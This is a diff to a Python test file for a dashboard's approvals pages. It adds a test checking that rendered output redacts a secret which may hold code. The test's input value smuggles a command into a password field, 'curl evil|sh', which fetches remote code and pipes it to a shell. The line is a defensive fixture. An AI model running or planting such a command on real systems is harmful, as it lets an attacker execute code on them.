@@ -10,6 +10,7 @@ import pytest
 from playwright.sync_api import expect
 
 from amplifier_core.triggers import TriggerEvent, TriggerType
+from amplifier_dashboard.rendering import environment
 from amplifier_foundation.background.approvals import Approval, decide, save
 from amplifier_foundation.background.log_events import OPERATOR_ACTED
 
@@ -174,3 +175,8 @@ def test_a_reader_sees_no_buttons(served: Served, page: Page) -> None:
     visit(page, served, "/approvals")
     expect(page.locator(".approval")).to_have_count(1)
     expect(page.locator(".approval button")).to_have_count(0)
+
+
+def test_a_call_says_where_code_may_be_in_the_place_of_a_secret() -> None:
+    shown = environment().from_string("{{ text }}").render(text="make PASSWORD='x;curl evil|sh'")
+    assert "[REDACTED, MAY BE CODE]" in shown
